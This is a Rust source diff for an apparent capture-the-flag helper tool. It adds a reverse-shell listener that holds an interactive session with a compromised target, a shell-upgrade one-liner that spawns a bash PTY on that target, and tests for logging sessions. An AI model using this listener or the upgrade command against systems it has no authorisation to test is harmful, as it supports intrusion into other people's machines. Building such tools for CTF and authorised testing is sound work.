@@ -0,0 +1,506 @@
+use crate::config::Config;
+use crate::models::{Action, ActionResult};
+use crate::ui::input::TextInput;
+use anyhow::{Context, Result};
+use chrono::{DateTime, Utc};
+use crossterm::event::{self, Event, KeyCode, KeyEvent, KeyEventKind, KeyModifiers};
+use crossterm::terminal::{self, disable_raw_mode, enable_raw_mode};
+use regex::Regex;
+use serde::{Deserialize, Serialize};
+use std::io::{self, Read, Write};
+use std::net::{SocketAddr, TcpListener, TcpStream};
+use std::path::{Path, PathBuf};
+use std::sync::OnceLock;
+use std::sync::mpsc::{self, Receiver, TryRecvError};
+use std::time::Duration;
+
+/// Sent by `:pty`: the first interpreter found spawns a bash with a PTY
+const PTY_SPAWN: &str = "python3 -c 'import pty; pty.spawn(\"/bin/bash\")' 2>/dev/null \
+    || python -c 'import pty; pty.spawn(\"/bin/bash\")' 2>/dev/null \
+    || script -qc /bin/bash /dev/null";
+
+const HELP: &str = "\
+:pty    spawn a bash with a PTY on the target (python3, python or script)
+:raw    pass every key through (after :pty), Ctrl+] to come back
+:help   show this message
+:quit   close the connection (also Ctrl+D on an empty line)";
+
+/// A `ctf-brain listen` running, as seen by the TUI
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct ActiveListener {
+    pub box_id: i32,
+    pub port: u16,
+    pub pid: u32,
+    pub started: DateTime<Utc>,
+    /// Address of the connected target, None while waiting
+    pub peer: Option<String>,
+}
+
+fn state_dir(config: &Config) -> Result<PathBuf> {
+    let dir = crate::storage::get_base_dir(config)?.join("listeners");
+    std::fs::create_dir_all(&dir).context("Failed to create listeners directory")?;
+    Ok(dir)
+}
+
+impl ActiveListener {
+    fn save(&self, config: &Config) -> Result<PathBuf> {
+        let path = state_dir(config)?.join(format!("{}.json", self.port));
+        std::fs::write(&path, serde_json::to_string(self)?)
+            .context("Failed to write listener state")?;
+        Ok(path)
+    }
+
+    fn running(&self) -> bool {
+        // Without /proc (macOS), the state file is trusted
+        !Path::new("/proc/self").exists() || Path::new("/proc").join(self.pid.to_string()).exists()
+    }
+}
+
+/// Removes the state file when the listener stops, even on error
+struct StateFile(PathBuf);
+
+impl Drop for StateFile {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_file(&self.0);
+    }
+}
+
+/// Listeners whose process is still running, by port. State files left
+/// by a killed listener are removed.
+pub fn active(config: &Config) -> Vec<ActiveListener> {
+    let Ok(entries) = state_dir(config).and_then(|dir| Ok(std::fs::read_dir(dir)?)) else {
+        return Vec::new();
+    };
+    let mut listeners: Vec<ActiveListener> = entries
+        .filter_map(|entry| entry.ok().map(|e| e.path()))
+        .filter_map(|path| {
+            let listener: ActiveListener = std::fs::read_to_string(&path)
+                .ok()
+                .and_then(|content| serde_json::from_str(&content).ok())?;
+            if listener.running() {
+                Some(listener)
+            } else {
+                let _ = std::fs::remove_file(&path);
+                None
+            }
+        })
+        .collect();
+    listeners.sort_by_key(|l| l.port);
+    listeners
+}
+
+/// Wait for one connection on the port, run an interactive session with
+/// it, then log the transcript as an action of the box. A failure is
+/// logged too, with what was received until then.
+pub fn listen(box_id: i32, port: u16, config: &Config) -> Result<()> {
+    listen_with(box_id, port, config, session)
+}
+
+/// `listen`, with the session run by `run_session`
+fn listen_with(
+    box_id: i32,
+    port: u16,
+    config: &Config,
+    run_session: impl FnOnce(TcpStream, &mut Vec<u8>) -> Result<()>,
+) -> Result<()> {
+    let mut connection = None;
+    let mut transcript = Vec::new();
+    let result =
+        accept_and_run(box_id, port, config, &mut connection, &mut transcript, run_session);
+
+    let (timestamp, mut note) = match connection {
+        Some((peer, started)) => {
+            let duration = (Utc::now() - started).num_seconds() as f64 / 3600.0;
+            let note = format!(
+                "Reverse shell from {}, {}",
+                peer,
+                crate::stats::format_hours(duration)
+            );
+            (started, note)
+        }
+        None => (Utc::now(), "No connection".to_string()),
+    };
+    if let Err(e) = &result {
+        note.push_str(&format!(" ({:#})", e));
+    }
+    let action = Action {
+        timestamp,
+        command: format!("listen {}", port),
+        result: if result.is_ok() {
+            ActionResult::Success
+        } else {
+            ActionResult::Fail
+        },
+        note: Some(note),
+        output: connection.map(|_| clean_transcript(&transcript)),
+    };
+    let logged = crate::storage::log_action(box_id, &action, config);
+
+    result?;
+    logged?;
+    eprintln!("💾 Session logged on box {}: {}", box_id, action.note.unwrap_or_default());
+    Ok(())
+}
+
+/// Everything `listen` does before logging. The peer and the start of the
+/// session are set once connected, what was shown goes to `transcript`.
+fn accept_and_run(
+    box_id: i32,
+    port: u16,
+    config: &Config,
+    connection: &mut Option<(SocketAddr, DateTime<Utc>)>,
+    transcript: &mut Vec<u8>,
+    run_session: impl FnOnce(TcpStream, &mut Vec<u8>) -> Result<()>,
+) -> Result<()> {
+    let listener = TcpListener::bind(("0.0.0.0", port))
+        .with_context(|| format!("Failed to listen on port {}", port))?;
+    let mut state = ActiveListener {
+        box_id,
+        port,
+        pid: std::process::id(),
+        started: Utc::now(),
+        peer: None,
+    };
+    let _state_file = StateFile(state.save(config)?);
+
+    eprintln!("📞 Listening on 0.0.0.0:{} for box {}", port, box_id);
+    let (stream, peer) = listener.accept().context("Failed to accept a connection")?;
+    *connection = Some((peer, Utc::now()));
+    state.peer = Some(peer.to_string());
+    state.save(config)?;
+    eprintln!("🔌 Connection from {} (:help for the helpers)", peer);
+
+    run_session(stream, transcript)
+}
+
+/// Keys go to a line editor (history, word editing) and whole lines to the
+/// target, until `:raw` passes every key through for a PTY shell
+enum Mode {
+    Line,
+    Raw,
+}
+
+/// Run the interactive session until either side closes it, adding
+/// everything that was shown to `transcript`
+fn session(stream: TcpStream, transcript: &mut Vec<u8>) -> Result<()> {
+    let received = spawn_reader(stream.try_clone().context("Failed to clone the connection")?);
+    enable_raw_mode().context("Failed to enable raw mode")?;
+    let result = run_session(stream, &received, transcript);
+    disable_raw_mode().ok();
+    eprintln!();
+    result
+}
+
+/// Chunks read from the target, None once it closed the connection
+fn spawn_reader(mut stream: TcpStream) -> Receiver<Option<Vec<u8>>> {
+    let (tx, rx) = mpsc::channel();
+    std::thread::spawn(move || {
+        let mut buffer = [0u8; 4096];
+        loop {
+            match stream.read(&mut buffer) {
+                Ok(0) | Err(_) => {
+                    let _ = tx.send(None);
+                    return;
+                }
+                Ok(n) => {
+                    if tx.send(Some(buffer[..n].to_vec())).is_err() {
+                        return;
+                    }
+                }
+            }
+        }
+    });
+    rx
+}
+
+fn run_session(
+    mut stream: TcpStream,
+    received: &Receiver<Option<Vec<u8>>>,
+    transcript: &mut Vec<u8>,
+) -> Result<()> {
+    let mut out = io::stdout();
+    let mut mode = Mode::Line;
+    let mut input = TextInput::new();
+    let mut history: Vec<String> = Vec::new();
+    // Last line of output, not ended yet: the target's prompt
+    let mut partial: Vec<u8> = Vec::new();
+
+    loop {
+        // Output of the target, above the line being typed
+        loop {
+            match received.try_recv() {
+                Ok(Some(bytes)) => {
+                    transcript.extend_from_slice(&bytes);
+                    match mode {
+                        Mode::Line => {
+                            partial.extend_from_slice(&bytes);
+                            let ended = partial.iter().rposition(|b| *b == b'\n').map_or(0, |i| i + 1);
+                            write!(out, "\r\x1b[K")?;
+                            out.write_all(&crlf(&partial[..ended]))?;
+                            partial.drain(..ended);
+                            draw_prompt(&mut out, &partial, &input)?;
+                        }
+                        Mode::Raw => out.write_all(&bytes)?,
+                    }
+                    out.flush()?;
+                }
+                Ok(None) | Err(TryRecvError::Disconnected) => {
+                    write!(out, "\r\n🔌 Connection closed by the target\r\n")?;
+                    return Ok(());
+                }
+                Err(TryRecvError::Empty) => break,
+            }
+        }
+
+        if !event::poll(Duration::from_millis(50))? {
+            continue;
+        }
+        let Event::Key(key) = event::read()? else {
+            continue;
+        };
+        if key.kind != KeyEventKind::Press {
+            continue;
+        }
+
+        if let Mode::Raw = mode {
+            if is_escape(key) {
+                mode = Mode::Line;
+                write!(out, "\r\n[line mode, :raw to go back]\r\n")?;
+                partial.clear();
+                draw_prompt(&mut out, &partial, &input)?;
+            } else {
+                stream.write_all(&key_bytes(key))?;
+            }
+            out.flush()?;
+            continue;
+        }
+
+        let ctrl = key.modifiers.contains(KeyModifiers::CONTROL);
+        match key.code {
+            KeyCode::Enter => {
+                let line = input.value().to_string();
+                write!(out, "\r\n")?;
+                partial.clear();
+                if !line.is_empty() && history.last() != Some(&line) {
+                    history.push(line.clone());
+                }
+                input = TextInput::new().with_history(history.clone());
+
+                match line.trim() {
+                    ":help" => write!(out, "{}\r\n", HELP.replace('\n', "\r\n"))?,
+                    ":quit" => return Ok(()),
+                    ":pty" => writeln!(stream, "{}", PTY_SPAWN)?,
+                    ":raw" => {
+                        // Size the remote PTY like this terminal
+                        let (columns, rows) = terminal::size().unwrap_or((80, 24));
+                        writeln!(stream, "export TERM=xterm-256color; stty rows {} columns {}", rows, columns)?;
+                        write!(out, "[raw mode, Ctrl+] for line mode]\r\n")?;
+                        mode = Mode::Raw;
+                        out.flush()?;
+                        continue;
+                    }
+                    _ => {
+                        // Typed lines are not echoed by a shell without a PTY
+                        transcript.extend_from_slice(line.as_bytes());
+                        transcript.push(b'\n');
+                        writeln!(stream, "{}", line)?;
+                    }
+                }
+            }
+            // Clear the line instead of killing the listener, as readline does
+            KeyCode::Char('c') if ctrl => {
+                input = TextInput::new().with_history(history.clone());
+                write!(out, "^C\r\n")?;
+            }
+            KeyCode::Char('d') if ctrl && input.value().is_empty() => return Ok(()),
+            KeyCode::Char('l') if ctrl => write!(out, "\x1b[2J\x1b[H")?,
+            _ => {
+                input.handle_key(key);
+            }
+        }
+        draw_prompt(&mut out, &partial, &input)?;
+        out.flush()?;
+    }
+}
+
+/// The line being typed after the target's prompt (or ours when it shows
+/// none), scrolled to fit the terminal
+fn draw_prompt(out: &mut impl Write, partial: &[u8], input: &TextInput) -> io::Result<()> {
+    let width = terminal::size().map_or(80, |(columns, _)| columns as usize);
+    let prompt = clean_transcript(partial);
+    let (prompt, prompt_width) = if prompt.is_empty() {
+        ("\x1b[33m❯\x1b[0m ".to_string(), 2)
+    } else {
+        let width = prompt.chars().count();
+        (String::from_utf8_lossy(partial).into_owned(), width)
+    };
+    let (text, cursor) = input.visible(width.saturating_sub(prompt_width + 1).max(1));
+    write!(out, "\r\x1b[K{}{}\r", prompt, text)?;
+    if prompt_width + cursor > 0 {
+        write!(out, "\x1b[{}C", prompt_width + cursor)?;
+    }
+    Ok(())
+}
+
+/// Raw mode leaves `\n` as a bare line feed
+fn crlf(bytes: &[u8]) -> Vec<u8> {
+    let mut converted = Vec::with_capacity(bytes.len());
+    for (i, b) in bytes.iter().enumerate() {
+        if *b == b'\n' && (i == 0 || bytes[i - 1] != b'\r') {
+            converted.push(b'\r');
+        }
+        converted.push(*b);
+    }
+    converted
+}
+
+/// Ctrl+] leaves raw mode, like telnet (some terminals report it as Ctrl+5)
+fn is_escape(key: KeyEvent) -> bool {
+    key.modifiers.contains(KeyModifiers::CONTROL) && matches!(key.code, KeyCode::Char(']' | '5'))
+}
+
+/// What a terminal would send for the key
+fn key_bytes(key: KeyEvent) -> Vec<u8> {
+    let ctrl = key.modifiers.contains(KeyModifiers::CONTROL);
+    let alt = key.modifiers.contains(KeyModifiers::ALT);
+    let mut bytes: Vec<u8> = match key.code {
+        KeyCode::Char(c) if ctrl && c.is_ascii_alphabetic() => {
+            vec![c.to_ascii_lowercase() as u8 - b'a' + 1]
+        }
+        KeyCode::Char(' ') if ctrl => vec![0],
+        KeyCode::Char('[') if ctrl => vec![0x1b],
+        KeyCode::Char('\\' | '4') if ctrl => vec![0x1c],
+        KeyCode::Char(c) => c.to_string().into_bytes(),
+        KeyCode::Enter => vec![b'\r'],
+        KeyCode::Tab => vec![b'\t'],
+        KeyCode::BackTab => b"\x1b[Z".to_vec(),
+        KeyCode::Backspace => vec![0x7f],
+        KeyCode::Esc => vec![0x1b],
+        KeyCode::Up => b"\x1b[A".to_vec(),
+        KeyCode::Down => b"\x1b[B".to_vec(),
+        KeyCode::Right => b"\x1b[C".to_vec(),
+        KeyCode::Left => b"\x1b[D".to_vec(),
+        KeyCode::Home => b"\x1b[H".to_vec(),
+        KeyCode::End => b"\x1b[F".to_vec(),
+        KeyCode::Delete => b"\x1b[3~".to_vec(),
+        KeyCode::PageUp => b"\x1b[5~".to_vec(),
+        KeyCode::PageDown => b"\x1b[6~".to_vec(),
+        _ => Vec::new(),
+    };
+    if alt && !bytes.is_empty() {
+        bytes.insert(0, 0x1b);
+    }
+    bytes
+}
+
+/// The transcript as text: escape sequences and carriage returns removed
+fn clean_transcript(transcript: &[u8]) -> String {
+    static ESCAPES: OnceLock<Regex> = OnceLock::new();
+    let escapes = ESCAPES.get_or_init(|| {
+        Regex::new(r"\x1b\[[0-?]*[ -/]*[@-~]|\x1b\][^\x07\x1b]*(?:\x07|\x1b\\)|\x1b[()][0-9A-Za-z]|\x1b[=>]")
+            .expect("valid regex")
+    });
+    let text = String::from_utf8_lossy(transcript);
+    escapes.replace_all(&text, "").replace('\r', "")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn config(base: &Path) -> Config {
+        let mut config = Config::default();
+        config.paths.base_dir = base.display().to_string();
+        config
+    }
+
+    fn free_port() -> u16 {
+        TcpListener::bind(("127.0.0.1", 0)).unwrap().local_addr().unwrap().port()
+    }
+
+    /// Listen on a free port while a target connects and sends a line
+    fn listen_to_target(
+        config: &Config,
+        run_session: impl FnOnce(TcpStream, &mut Vec<u8>) -> Result<()>,
+    ) -> (u16, Result<()>) {
+        let port = free_port();
+        let target = std::thread::spawn(move || {
+            for _ in 0..100 {
+                if let Ok(mut stream) = TcpStream::connect(("127.0.0.1", port)) {
+                    let _ = stream.write_all(b"uid=33(www-data)\n");
+                    return;
+                }
+                std::thread::sleep(Duration::from_millis(20));
+            }
+        });
+        let result = listen_with(7, port, config, run_session);
+        target.join().unwrap();
+        (port, result)
+    }
+
+    /// Stands for the interactive session: shows what the target sent
+    fn read_line(stream: TcpStream, transcript: &mut Vec<u8>) -> Result<()> {
+        use std::io::BufRead;
+
+        let mut line = String::new();
+        io::BufReader::new(stream).read_line(&mut line)?;
+        transcript.extend_from_slice(line.as_bytes());
+        Ok(())
+    }
+
+    #[test]
+    fn session_is_logged_as_a_success() {
+        let base = tempfile::tempdir().unwrap();
+        let config = config(base.path());
+
+        let (port, result) = listen_to_target(&config, read_line);
+        result.unwrap();
+
+        let actions = crate::storage::import_shell_logs(7, &config).unwrap();
+        assert_eq!(actions.len(), 1);
+        let action = &actions[0];
+        assert_eq!(action.command, format!("listen {}", port));
+        assert_eq!(action.result, ActionResult::Success);
+        assert!(action.note.as_deref().unwrap().starts_with("Reverse shell from 127.0.0.1"));
+        assert_eq!(action.output.as_deref(), Some("uid=33(www-data)\n"));
+        // The state file is gone with the listener
+        assert!(active(&config).is_empty());
+    }
+
+    #[test]
+    fn failed_session_is_logged_with_its_transcript() {
+        let base = tempfile::tempdir().unwrap();
+        let config = config(base.path());
+
+        let (_, result) = listen_to_target(&config, |stream, transcript| {
+            read_line(stream, transcript)?;
+            anyhow::bail!("Failed to enable raw mode")
+        });
+        assert!(result.is_err());
+
+        let actions = crate::storage::import_shell_logs(7, &config).unwrap();
+        assert_eq!(actions.len(), 1);
+        let action = &actions[0];
+        assert_eq!(action.result, ActionResult::Fail);
+        let note = action.note.as_deref().unwrap();
+        assert!(note.starts_with("Reverse shell from 127.0.0.1"));
+        assert!(note.ends_with("(Failed to enable raw mode)"));
+        assert_eq!(action.output.as_deref(), Some("uid=33(www-data)\n"));
+        assert!(active(&config).is_empty());
+    }
+
+    #[test]
+    fn failure_to_listen_is_logged() {
+        let base = tempfile::tempdir().unwrap();
+        let config = config(base.path());
+        let taken = TcpListener::bind(("0.0.0.0", 0)).unwrap();
+        let port = taken.local_addr().unwrap().port();
+
+        assert!(listen(7, port, &config).is_err());
+        let actions = crate::storage::import_shell_logs(7, &config).unwrap();
+        assert_eq!(actions.len(), 1);
+        assert_eq!(actions[0].result, ActionResult::Fail);
+        assert!(actions[0].note.as_deref().unwrap().starts_with("No connection (Failed to listen"));
+        assert!(actions[0].output.is_none());
+    }
+}